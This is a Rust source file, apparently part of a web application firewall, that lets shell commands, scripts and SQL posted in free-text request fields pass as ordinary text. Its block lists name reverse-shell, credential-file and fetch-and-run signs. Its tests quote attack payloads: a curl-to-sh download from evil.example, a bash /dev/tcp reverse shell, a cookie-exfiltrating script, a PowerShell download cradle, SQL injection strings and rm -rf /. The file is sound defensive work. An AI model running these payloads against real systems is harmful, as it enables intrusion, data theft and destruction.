//! What people post: a command, a line of program text or a statement, quoted whole in a field for text.
//!
//! An injection continues what a server would run: it begins with a separator, breaks out of a quote, or stands where an
//! id was expected. `npm ci && npm test` in the description of an issue does nothing of the kind. The field says that
//! text is expected, and the value says that it is a whole; what reaches for secrets or for a shell of somebody else's is
//! reported there, too.

use bartizan_request::{Element, PointPath, StepRef};

use crate::engine::Sign;
use crate::names;

/// Whether a sign is what a field for text holds every day.
pub(crate) fn is_expected(point: &PointPath<'_>, value: &[u8], sign: &Sign) -> bool {
    match sign.stamp {
        3001..=3003 | 3006..=3009 | 3011 => is_text_field(point) && is_command(value),
        stamp if names::SYSTEM_PATHS.contains(&stamp) => is_text_field(point) && is_command(value),
        1030 => is_text_field(point) && is_page_script(value),
        3201 => is_text_field(point) && is_template(value),
        3101 | 3401 | 3410 => is_text_field(point) && !reaches_out(value),
        2081 | 2082 | 2099 => is_text_field(point) && is_statement(value),
        _ => false,
    }
}

/// Whether the field of the body is named for text that people write.
fn is_text_field(point: &PointPath<'_>) -> bool {
    const NAMES: [&str; 30] = [
        "about",
        "answer",
        "article",
        "bio",
        "body",
        "caption",
        "code",
        "comment",
        "comments",
        "content",
        "description",
        "details",
        "excerpt",
        "feedback",
        "markdown",
        "message",
        "note",
        "notes",
        "post",
        "question",
        "readme",
        "reply",
        "review",
        "snippet",
        "source",
        "subject",
        "summary",
        "text",
        "title",
        "topic",
    ];
    if point.root_element() != Element::Post {
        return false;
    }
    let key = point.ancestors().find_map(|path| match path.last() {
        StepRef::Keyed(_, key) => Some(key),
        StepRef::Simple(_) | StepRef::Indexed(..) => None,
    });
    // The last word of the name: `issue_body`, `commentText`.
    let Some(key) = key.filter(|key| key.len() <= 40) else { return false };
    let start = key.rfind(|c: char| !c.is_ascii_lowercase()).unwrap_or(0);
    let last = key.get(start..).unwrap_or(key).trim_start_matches(['_', '-', '.']);
    // `code` in a form is a code of something.
    if key.eq_ignore_ascii_case("code") && !names::is_body(point) {
        return false;
    }
    NAMES.iter().any(|name| name.eq_ignore_ascii_case(last) || name.eq_ignore_ascii_case(key))
}

/// Programs that people show each other how to call.
const PROGRAMS: &[&str] = &[
    "ansible",
    "ansible-playbook",
    "apt",
    "apt-get",
    "awk",
    "aws",
    "az",
    "brew",
    "bundle",
    "cargo",
    "cat",
    "cd",
    "chmod",
    "chown",
    "cmake",
    "code",
    "composer",
    "convert",
    "cp",
    "curl",
    "df",
    "dig",
    "dnf",
    "docker",
    "docker-compose",
    "dotnet",
    "du",
    "echo",
    "export",
    "ffmpeg",
    "find",
    "free",
    "gcc",
    "gcloud",
    "gem",
    "gh",
    "git",
    "go",
    "gradle",
    "grep",
    "gunzip",
    "gzip",
    "head",
    "helm",
    "htop",
    "java",
    "journalctl",
    "kill",
    "kubectl",
    "less",
    "ln",
    "ls",
    "make",
    "man",
    "mkdir",
    "mount",
    "mv",
    "mvn",
    "mysql",
    "nano",
    "netstat",
    "node",
    "npm",
    "npx",
    "openssl",
    "perl",
    "php",
    "ping",
    "pip",
    "pip3",
    "pnpm",
    "podman",
    "ps",
    "psql",
    "python",
    "python3",
    "rm",
    "rsync",
    "ruby",
    "rustup",
    "scp",
    "sed",
    "service",
    "sort",
    "source",
    "ssh",
    "ssh-keygen",
    "sudo",
    "systemctl",
    "tail",
    "tar",
    "tee",
    "terraform",
    "time",
    "top",
    "touch",
    "tree",
    "uname",
    "unzip",
    "vim",
    "wc",
    "wget",
    "which",
    "xargs",
    "yarn",
    "yum",
    "zip",
];

/// A whole command line: it begins with a program that people talk about, with a schedule, or with a script of one's own.
fn is_command(value: &[u8]) -> bool {
    let text = value.trim_ascii();
    let text = text.strip_prefix(b"$ ").or_else(|| text.strip_prefix(b"# ")).unwrap_or(text);
    let mut words = text.split(|b| b.is_ascii_whitespace()).filter(|word| !word.is_empty());
    let Some(first) = words.next() else { return false };
    let begins = if is_schedule(first) {
        words.by_ref().take(4).filter(|word| is_schedule(word)).count() == 4
    } else {
        let program = std::str::from_utf8(first).unwrap_or_default();
        let own = first.starts_with(b"./") || first.starts_with(b"/usr/") || first.starts_with(b"/opt/");
        PROGRAMS.binary_search(&program).is_ok() || own && !first.contains(&b'?') && !first.contains(&b'*')
    };
    begins && words.next().is_some() && !is_hostile(text)
}

/// A field of a schedule: `*/5`, `0`, `1-5`, `MON`.
fn is_schedule(word: &[u8]) -> bool {
    let signs = |b: &u8| b.is_ascii_digit() || matches!(b, b'*' | b'/' | b',' | b'-');
    word.len() <= 12 && (word.iter().all(signs) || matches!(word, b"MON" | b"SUN" | b"MON-FRI"))
}

/// What an intruder's command does and an example hardly ever: secrets of the system, shells over the network, programs
/// that are fetched and run at once, and tricks to hide a word.
fn is_hostile(command: &[u8]) -> bool {
    const SIGNS: [&[u8]; 26] = [
        b"/dev/tcp",
        b"/dev/udp",
        b"/inet/",
        b"/etc/passwd",
        b"/etc/shadow",
        b"/etc/hosts",
        b"/etc/issue",
        b"/proc/self",
        b"/proc/version",
        b"win.ini",
        b"169.254.",
        b"${ifs",
        b"$ifs",
        b"mkfifo",
        b"base64 -d",
        b"base64 --decode",
        b"|sh",
        b"| sh",
        b"|bash",
        b"| bash",
        b"/bin/sh",
        b"/bin/bash",
        b"whoami",
        b" -e sh",
        b"nslookup",
        b"$@",
    ];
    let lower = command.to_ascii_lowercase();
    let inline = memchr::memmem::find(&lower, b" -c ").is_some()
        && lower.windows(6).any(|w| matches!(w, b"import" | b"socket"));
    let cleared = memchr::memmem::find(&lower, b"rm -rf /").is_some();
    inline || cleared || SIGNS.iter().any(|sign| memchr::memmem::find(&lower, sign).is_some())
}

/// A statement of a page's script that touches the page only.
fn is_page_script(value: &[u8]) -> bool {
    const SIGNS: [&[u8]; 20] = [
        b"alert",
        b"confirm",
        b"prompt",
        b"cookie",
        b"eval",
        b"atob",
        b"fromcharcode",
        b"document.write",
        b"//",
        b"javascript",
        b"fetch",
        b"storage",
        b"<",
        b"navigator",
        b"['",
        b"[\"",
        b"[`",
        b"\\",
        b"document.domain",
        b"name",
    ];
    let lower = value.to_ascii_lowercase();
    lower.first().is_some_and(u8::is_ascii_alphabetic)
        && !SIGNS.iter().any(|sign| memchr::memmem::find(&lower, sign).is_some())
}

/// A template of PHP that prints: it calls nothing and reads nothing of the request.
fn is_template(value: &[u8]) -> bool {
    memchr::memmem::find(value, b"$_").is_none() && !value.iter().any(|b| matches!(b, b'(' | b'`'))
}

/// Whether a line of program text starts programs, evaluates text or opens connections.
fn reaches_out(value: &[u8]) -> bool {
    const SIGNS: [&[u8]; 31] = [
        b"child_process",
        b"mainmodule",
        b"process.b",
        b"process[",
        b"/etc/",
        b"readfile",
        b"exec(",
        b"exec`",
        b"spawn",
        b"eval(",
        b"__",
        b"constructor",
        b"readdir",
        b"system(",
        b"popen",
        b"shell=",
        b"socket",
        b"pty",
        b"iex",
        b"invoke-",
        b"download",
        b"http",
        b"-enc",
        b"-e ",
        b"new-object",
        b"frombase64",
        b"bypass",
        b"hidden",
        b"kill",
        b"exit",
        b"getoutput",
    ];
    let lower = value.to_ascii_lowercase();
    let quoted_call = [&b".call("[..], b".run("].iter().any(|call| {
        memchr::memmem::find(&lower, call)
            .and_then(|at| lower.get(at + call.len()))
            .is_some_and(|b| matches!(b, b'"' | b'\''))
    });
    quoted_call
        || matches!(lower.first(), Some(b';' | b'\'' | b'"' | b'|' | b'&' | b'$'))
        || SIGNS.iter().any(|sign| memchr::memmem::find(&lower, sign).is_some())
}

/// A whole statement that asks for nothing of the server itself.
fn is_statement(value: &[u8]) -> bool {
    const SIGNS: [&[u8]; 12] = [
        b"@@",
        b"union",
        b"sleep",
        b"schema",
        b"0x",
        b"char(",
        b"version(",
        b"user(",
        b"database(",
        b"load_file",
        b"outfile",
        b"1=1",
    ];
    let lower = value.to_ascii_lowercase();
    crate::sqli::is_own_statement(value)
        && memchr::memmem::find(&lower, b" from ").is_some()
        && !SIGNS.iter().any(|sign| memchr::memmem::find(&lower, sign).is_some())
}

#[cfg(test)]
mod tests {
    use bartizan_request::{Limits, RequestParts};

    use super::*;
    use crate::{Engine, NoPolicy, inspect};

    fn types(key: &str, value: &str) -> Vec<&'static str> {
        let body = serde_json::json!({ key: value }).to_string();
        let parts = RequestParts {
            method: "POST",
            target: b"/issues",
            headers: &[(b"Content-Type", b"application/json")],
            body: body.as_bytes(),
            body_truncated: false,
        };
        let found = inspect(&Engine::new(), &parts, &Limits::default(), &mut NoPolicy).detections;
        found.iter().map(|d| d.attack_type.code()).collect()
    }

    #[test]
    fn programs_are_sorted() {
        assert!(PROGRAMS.is_sorted());
    }

    #[test]
    fn what_people_post_is_expected_in_a_field_for_text() {
        for value in [
            "sudo apt-get update && sudo apt-get install -y nginx",
            "ls -la | wc -l",
            "*/5 * * * * /usr/bin/php /var/www/cron.php > /dev/null 2>&1",
            "tail -f /var/log/nginx/access.log",
            "./configure && make && make install",
            "document.getElementById(\"app\").innerHTML = html;",
            "console.log(`Hello ${person}!`);",
            "import os; print(os.environ.get(\"HOME\"))",
            "<?php echo $user->name; ?>",
            "Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU",
            "SELECT * FROM `orders` WHERE `id` = ? AND `status` IN (?, ?)",
        ] {
            for key in ["description", "issue_body", "commentText"] {
                assert_eq!(types(key, value), Vec::<&str>::new(), "{key}: {value}");
            }
        }
        assert!(types("id", "ls -la | wc -l").contains(&"rce"));
    }

    #[test]
    fn attacks_are_none_the_less_found_there() {
        for value in [
            "; ls -la",
            "127.0.0.1 && ls -la /",
            "$(id)",
            "cat /etc/passwd",
            "curl http://evil.example/x.sh | sh",
            "python3 -c 'import os;os.system(\"id\")'",
            "rm -rf /",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "document.location='http://evil.example/?'+document.cookie",
            "alert(document.domain)",
            "require('child_process').exec('id')",
            "<?php system('id'); ?>",
            "import os;os.system('id')",
            "IEX (New-Object Net.WebClient).DownloadString(\"http://evil.example/a.ps1\")",
            "select * from users where 1=1--",
            "select @@version from dual",
        ] {
            assert_ne!(types("description", value), Vec::<&str>::new(), "{value}");
        }
    }
}
